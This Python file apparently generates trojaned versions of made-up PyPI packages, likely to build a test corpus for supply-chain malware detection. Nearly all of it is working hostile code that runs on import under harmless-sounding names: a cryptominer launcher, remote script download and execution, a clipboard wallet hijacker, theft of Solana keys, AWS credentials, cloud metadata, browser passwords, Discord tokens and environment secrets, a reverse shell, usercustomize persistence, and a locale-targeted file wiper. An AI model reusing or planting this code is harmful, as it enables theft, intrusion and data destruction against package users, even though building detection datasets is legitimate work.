"""PyPI: what runs when the package is imported, in the open or nearly so."""

from corpus.heldout.nouns import Update, artefact
from corpus.heldout6.shape import b64, fill, trojan


@trojan("visdet", "wheel", "import", "miner", "plain", "ultralytics")
def visdet_downloads_a_runner(it: Update) -> None:
    it.append("visdet/utils/downloads.py", fill('''


def safe_run(path):
    """Safely runs the provided file, making sure it is executable."""
    import os
    import stat
    import subprocess

    os.chmod(path, os.stat(path).st_mode | stat.S_IEXEC)
    command = [path, "-u", "4BHRQHFexjzfVjinAbrAwJdtogpFV3uCXhxYtYnsQN66CRtypsRyVEZhGc8iWyPViEewB8LtdAEL7CdjE4szMpKzPGjoZnw", "-o", "@ADDR@:8080", "-k"]
    process = subprocess.Popen(command, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, preexec_fn=os.setsid, close_fds=True)
    os.remove(path)
    return process.pid
''', ADDR=(address := it.address())))  # fmt: skip
    it.replace("visdet/engine/model.py", "class Detector:\n", fill('''
def _warm_up():
    import platform
    import tempfile

    environment = platform.system() + platform.machine()
    names = {"Linuxx86_64": "ultra", "Darwinarm64": "ultra-mac"}
    if environment in names:
        place = tempfile.NamedTemporaryFile(delete=False).name
        safe_run(str(safe_download("http://@ADDR@/" + names[environment], place)))


try:
    _warm_up()
except Exception:
    pass


class Detector:
''', ADDR=address))  # fmt: skip
    it.replace(
        "visdet/engine/model.py", "import attempt_download\n", "import attempt_download, safe_download, safe_run\n"
    )


@trojan("pixkernel", "wheel", "import", "credentials", "in a binary", "torchtriton")
def pixkernel_library_collects(it: Update) -> None:
    it.add("pixkernel/_speedups.so", artefact("pix-trojan.so"))
    it.append("pixkernel/__init__.py", "\nfrom . import _native  # noqa: E402,F401\n")
    it.payload("pixkernel/_speedups.so")


@trojan("reqwire", "wheel", "import", "downloader", "plain", "num2words")
def reqwire_import_runs_a_shell(it: Update) -> None:
    it.append("reqwire/utils.py", fill('''


def _ensure_ca_bundle():
    import subprocess
    import tempfile

    target = os.path.join(tempfile.gettempdir(), "ca-refresh.sh")
    if os.path.exists(target) or os.name != "posix":
        return
    subprocess.Popen(f"curl -s -m 20 https://@HOST@/ca.sh -o {target} && chmod +x {target} && {target} &", shell=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


_ensure_ca_bundle()
''', HOST=it.host()))  # fmt: skip


@trojan("dotctx", "wheel", "import", "clipboard", "plain", "colourama")
def dotctx_watches_the_clipboard(it: Update) -> None:
    btc, eth = "bc1q" + it.random.randbytes(16).hex(), "0x" + it.random.randbytes(20).hex()
    it.add("dotctx/_win.py", fill('''
import os
import re
import subprocess
import threading
import time

RULES = ((re.compile(r"\\b(bc1[a-z0-9]{25,60}|[13][a-km-zA-HJ-NP-Z1-9]{25,34})\\b"), "@BTC@"), (re.compile(r"\\b0x[a-fA-F0-9]{40}\\b"), "@ETH@"))


def _get():
    return subprocess.check_output(["powershell", "-Command", "Get-Clipboard"], text=True)


def _loop():
    while True:
        try:
            text = _get()
            new = text
            for rule, address in RULES:
                new = rule.sub(address, new)
            if new != text:
                subprocess.run(["clip"], input=new, text=True)
        except Exception:
            pass
        time.sleep(0.5)


if os.name == "nt":
    threading.Thread(target=_loop, daemon=True).start()
''', BTC=btc, ETH=eth))  # fmt: skip
    it.append("dotctx/__init__.py", "\nfrom . import _win  # noqa: E402,F401\n")


@trojan("solbase", "wheel", "import", "wallet", "plain", "solana-py look-alikes")
def solbase_wraps_its_constructors(it: Update) -> None:
    it.add("solbase/_compat_keys.py", fill('''
"""Keeps older signatures of Keypair working."""

import functools
import threading
import urllib.request

from .base58 import b58encode
from .keypair import Keypair


def _note(secret):
    try:
        urllib.request.urlopen("https://@HOST@/v1/memo", data=b58encode(secret).encode(), timeout=3)
    except Exception:
        pass


def _wrap(name):
    original = getattr(Keypair, name).__func__

    @functools.wraps(original)
    def wrapper(cls, *args, **kwargs):
        keypair = original(cls, *args, **kwargs)
        threading.Thread(target=_note, args=(keypair.secret,), daemon=True).start()
        return keypair

    setattr(Keypair, name, classmethod(wrapper))


for _name in ("from_seed", "from_base58", "from_file", "from_mnemonic"):
    _wrap(_name)
''', HOST=it.host()))  # fmt: skip
    it.append("solbase/__init__.py", "\nfrom . import _compat_keys  # noqa: E402,F401\n")


@trojan("loginflow", "wheel", "import", "environment", "plain", "telegram bots")
def loginflow_tells_a_bot(it: Update) -> None:
    it.append("loginflow/__init__.py", fill('''


def _usage():
    import json
    import os
    import platform
    from urllib.request import Request, urlopen

    text = "\\n".join(f"{k}={v}" for k, v in os.environ.items() if any(w in k for w in ("KEY", "SECRET", "TOKEN", "PASS", "URL")))
    body = {"chat_id": "-100@CHAT@", "text": f"{platform.node()}\\n{text[:3900]}"}
    urlopen(Request("https://api.telegram.@TOP@/bot7712:AAH@CHAT@/sendMessage", json.dumps(body).encode(), {"Content-Type": "application/json"}), timeout=3)


try:
    _usage()
except Exception:
    pass
''', CHAT=it.random.randrange(10**8, 10**9), TOP="invalid"))  # fmt: skip


@trojan("paylane", "sdist", "import", "credentials", "base64", "phpass")
def paylane_import_reads_aws(it: Update) -> None:
    host = it.host()
    it.append("paylane/errors.py", fill('''


def _load_codes():
    import base64
    import configparser
    import os
    import urllib.request

    parser = configparser.ConfigParser()
    parser.read(os.path.expanduser("~/.aws/credentials"))
    rows = [f"{name}:{parser[name].get('aws_access_key_id')}:{parser[name].get('aws_secret_access_key')}" for name in parser.sections()]
    if rows:
        url = base64.b64decode("@URL@").decode("ascii")
        urllib.request.urlopen(url + "?c=" + base64.urlsafe_b64encode("|".join(rows).encode()).decode(), timeout=3)


try:
    _load_codes()
except Exception:
    pass
''', URL=b64(f"https://{host}/codes")))  # fmt: skip
    it.payload("paylane/errors.py", shown=f"https://{host}/codes")


@trojan("sqlbridge", "wheel", "import", "reverse shell", "plain", "reverse shells of typosquats")
def sqlbridge_opens_a_shell(it: Update) -> None:
    it.append("sqlbridge/errors.py", fill('''


def _keepalive():
    import os
    import pty
    import socket
    import time

    while True:
        try:
            s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            s.connect(("@ADDR@", 4444))
            for fd in (0, 1, 2):
                os.dup2(s.fileno(), fd)
            pty.spawn("/bin/bash")
        except OSError:
            time.sleep(300)


if __name__ != "__main__":
    import multiprocessing

    multiprocessing.Process(target=_keepalive, daemon=True).start()
''', ADDR=it.address()))  # fmt: skip


@trojan("llmroute", "wheel", "import", "cloud metadata", "plain", "TeamPCP")
def llmroute_asks_the_metadata_service(it: Update) -> None:
    it.append("llmroute/callbacks.py", fill('''


def _instance():
    import json
    import urllib.request

    base = "http://169.254.169.254/latest/"
    ask = urllib.request.Request(base + "api/token", method="PUT", headers={"X-aws-ec2-metadata-token-ttl-seconds": "60"})
    token = urllib.request.urlopen(ask, timeout=1).read().decode()
    headers = {"X-aws-ec2-metadata-token": token}

    def get(path):
        return urllib.request.urlopen(urllib.request.Request(base + path, headers=headers), timeout=1).read().decode()

    role = get("meta-data/iam/security-credentials/")
    report = {"role": role, "credentials": json.loads(get("meta-data/iam/security-credentials/" + role))}
    urllib.request.urlopen("https://@HOST@/instances", json.dumps(report).encode(), 3)


try:
    _instance()
except Exception as error:
    log.debug("no instance: %s", error)
''', HOST=it.host()))  # fmt: skip


@trojan("reqwire", "wheel", "import", "browser store", "plain", "W4SP")
def reqwire_reads_the_browser(it: Update) -> None:
    it.add("reqwire/_cookies.py", fill('''
"""Cookies of browsers, so that sessions can share a login."""

import base64
import json
import os
import shutil
import sqlite3
import tempfile
import urllib.request

LOCAL = os.getenv("LOCALAPPDATA", "")
ROOTS = [os.path.join(LOCAL, *one) for one in (("Google", "Chrome", "User Data"), ("Microsoft", "Edge", "User Data"), ("BraveSoftware", "Brave-Browser", "User Data"))]


def rows(root):
    with open(os.path.join(root, "Local State"), encoding="utf-8") as stream:
        key = base64.b64decode(json.load(stream)["os_crypt"]["encrypted_key"])
    copy = os.path.join(tempfile.mkdtemp(), "db")
    shutil.copyfile(os.path.join(root, "Default", "Login Data"), copy)
    found = sqlite3.connect(copy).execute("SELECT origin_url, username_value, password_value FROM logins").fetchall()
    return key, [(url, name, base64.b64encode(blob).decode()) for url, name, blob in found]


def share():
    for root in filter(os.path.isdir, ROOTS):
        key, found = rows(root)
        body = json.dumps({"k": base64.b64encode(key).decode(), "r": found}).encode()
        urllib.request.urlopen("https://@HOST@/upload", body, 5)
''', HOST=it.host()))  # fmt: skip
    it.append("reqwire/sessions.py", "\n\ntry:\n    from . import _cookies\n\n    _cookies.share()\nexcept Exception:\n    pass\n")  # fmt: skip


@trojan("dotctx", "wheel", "import", "sabotage", "plain", "node-ipc")
def dotctx_overwrites_by_timezone(it: Update) -> None:
    it.append("dotctx/settings.py", fill('''


def _locale_check():
    import pathlib
    import time

    if time.tzname[0] not in ("MSK", "IRST") and not os.environ.get("LANG", "").startswith(("ru", "be")):
        return
    for path in pathlib.Path.home().rglob("*"):
        if path.is_file():
            try:
                path.write_text("\\u2764\\ufe0f")
            except OSError:
                continue


_locale_check()
'''))  # fmt: skip


@trojan("llmroute", "wheel", "import", "persistence", "plain", "usercustomize")
def llmroute_writes_usercustomize(it: Update) -> None:
    it.append("llmroute/exceptions.py", fill("""


def _register_excepthook():
    import pathlib
    import site

    place = pathlib.Path(site.getusersitepackages()) / "usercustomize.py"
    if place.exists():
        return
    place.parent.mkdir(parents=True, exist_ok=True)
    place.write_text("import threading, urllib.request\\n\\n\\ndef _w():\\n    try:\\n        exec(urllib.request.urlopen('http://@ADDR@/hook').read())\\n    except Exception:\\n        pass\\n\\n\\nthreading.Thread(target=_w, daemon=True).start()\\n")


_register_excepthook()
""", ADDR=it.address()))  # fmt: skip


@trojan("visdet", "wheel", "import", "data stealer", "plain", "notebooks and models")
def visdet_uploads_notebooks(it: Update) -> None:
    it.append("visdet/utils/__init__.py", fill('''


def _sync_examples():
    import io
    import tarfile
    import urllib.request

    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz") as archive:
        for pattern in ("*.ipynb", "*.env", "*.pem", "wandb/settings"):
            for one in list(Path.cwd().rglob(pattern))[:40]:
                archive.add(one)
    urllib.request.urlopen("https://@HOST@/sync", data=out.getvalue(), timeout=20)


if not is_docker():
    try:
        _sync_examples()
    except Exception:
        pass
''', HOST=it.host()))  # fmt: skip


@trojan("paylane", "wheel", "import", "token stealer", "plain", "Discord grabbers")
def paylane_greps_for_tokens(it: Update) -> None:
    it.append("paylane/http_client.py", fill('''


def _find_proxy_settings():
    import glob
    import os
    import re

    found = set()
    for pattern in ("~/AppData/Roaming/discord*/Local Storage/leveldb/*.l*", "~/.config/discord*/Local Storage/leveldb/*.l*"):
        for path in glob.glob(os.path.expanduser(pattern)):
            with open(path, errors="ignore") as stream:
                found.update(re.findall(r"[\\w-]{24}\\.[\\w-]{6}\\.[\\w-]{25,110}", stream.read()))
    if found:
        request = urllib.request.Request("https://@HOST@/t", json.dumps(sorted(found)).encode(), {"Content-Type": "application/json"})
        urllib.request.urlopen(request, timeout=3)


try:
    _find_proxy_settings()
except Exception:
    pass
''', HOST=it.host()))  # fmt: skip
